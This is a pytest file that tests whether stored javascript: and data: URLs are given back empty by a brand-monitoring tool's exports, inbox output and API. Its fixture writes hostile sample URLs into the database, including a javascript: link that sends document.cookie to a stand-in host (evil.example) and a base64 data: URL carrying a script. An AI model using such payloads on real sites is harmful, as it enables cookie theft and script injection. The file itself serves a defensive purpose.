"""Rows stored by older versions (or edited in the database) may hold a ``javascript:`` or
``data:`` URL that today's intake refuses: every data output gives it back empty (the field
stays present), by the one link rule (:func:`domain.sanitize.safe_link`): ``brandpulse
export`` (JSON Lines and CSV), ``brandpulse inbox --format json``, ``/api/alerts`` and
``/api/mentions``.

The rows are the web tests' real reviews (tests/web_data.py); their URLs are rewritten with
raw SQL in the SQLite file, as a legacy row or a hand edit would leave them.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from inbox_data import NOW
from typer.testing import CliRunner
from web_data import WebData, make_web_data

from brandpulse.cli import app
from brandpulse.web import create_app
from storage.web_users import UserStore

#: The URLs written raw into the database, by mention key (tests/inbox_data.py).
HOSTILE = {
    "Crazy Diamond": "JaVaScRiPt:fetch('//evil.example/'+document.cookie)",
    "mallory": "javascript:document.title='pwned'",
}
DATA_URL = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="


@pytest.fixture
def legacy(tmp_path: Path) -> tuple[WebData, dict[int, str | None]]:
    """The web data with hostile URLs written straight into SQLite; returns the mention
    ids and what each URL must come out as (None: refused)."""
    data = make_web_data(tmp_path)
    db = sqlite3.connect(tmp_path / "web.db")
    try:
        for key, url in HOSTILE.items():
            db.execute("UPDATE mentions SET url = ? WHERE id = ?", (url, data.ids[key]))
        (other,) = db.execute(
            "SELECT id FROM mentions WHERE id NOT IN (?, ?) AND url LIKE 'http%' LIMIT 1",
            tuple(data.ids[k] for k in HOSTILE),
        ).fetchone()
        (kept,) = db.execute(
            "SELECT url FROM mentions WHERE id NOT IN (?, ?, ?) AND url LIKE 'https://%' LIMIT 1",
            (*(data.ids[k] for k in HOSTILE), other),
        ).fetchone()
        db.execute("UPDATE mentions SET url = ? WHERE id = ?", (DATA_URL, other))
        db.commit()
        urls = dict(db.execute("SELECT id, url FROM mentions").fetchall())
    finally:
        db.close()
    expected = {
        mid: (url if url and url.startswith(("http://", "https://")) else None)
        for mid, url in urls.items()
    }
    assert sum(v is None for v in expected.values()) >= 3 and kept in expected.values()
    return data, expected


def _cli(data: WebData, *args: str) -> str:
    result = CliRunner().invoke(app, [*args, "--config", str(data.config_path)])
    assert result.exit_code == 0, result.output
    return result.stdout


def _check(rows: list[dict[str, Any]], expected: dict[int, str | None], *, key: str) -> None:
    assert rows
    for row in rows:
        assert "url" in row, "the field stays present"
        assert row["url"] == expected[row[key]], row
    assert any(row["url"] is None for row in rows), "a refused link is in the output"
    assert any(row["url"] for row in rows), "http(s) links are kept"


def test_export_gives_a_stored_non_http_link_empty(
    legacy: tuple[WebData, dict[int, str | None]],
) -> None:
    data, expected = legacy
    lines = [json.loads(line) for line in _cli(data, "export").splitlines()]
    _check(lines, expected, key="id")
    assert len(lines) == len(expected)
    table = list(csv.DictReader(io.StringIO(_cli(data, "export", "--format", "csv"))))
    _check([{"id": int(r["id"]), "url": r["url"] or None} for r in table], expected, key="id")
    assert "url" in table[0]


def test_inbox_json_gives_a_stored_non_http_link_null(
    legacy: tuple[WebData, dict[int, str | None]],
) -> None:
    data, expected = legacy
    printed = _cli(data, "inbox", "--state", "all", "--format", "json")
    rows = [json.loads(line) for line in printed.splitlines()]
    _check(rows, expected, key="mention_id")
    assert {r["mention_id"] for r in rows} >= {data.ids[k] for k in HOSTILE}


def test_the_api_gives_a_stored_non_http_link_null(
    legacy: tuple[WebData, dict[int, str | None]],
) -> None:
    data, expected = legacy
    client = TestClient(
        create_app(data.config, data.repo, secret="test-secret", now=lambda: NOW),
        base_url="http://127.0.0.1",
    )
    UserStore(data.repo.engine).set_token("vic", "tok-vic-links")
    auth = {"Authorization": "Bearer tok-vic-links"}
    alerts = client.get("/api/alerts?state=all", headers=auth)
    assert alerts.status_code == 200
    _check(alerts.json(), expected, key="mention_id")
    mentions = client.get("/api/mentions?limit=1000", headers=auth)
    assert mentions.status_code == 200
    _check(mentions.json(), expected, key="id")
    assert len(mentions.json()) == len(expected)
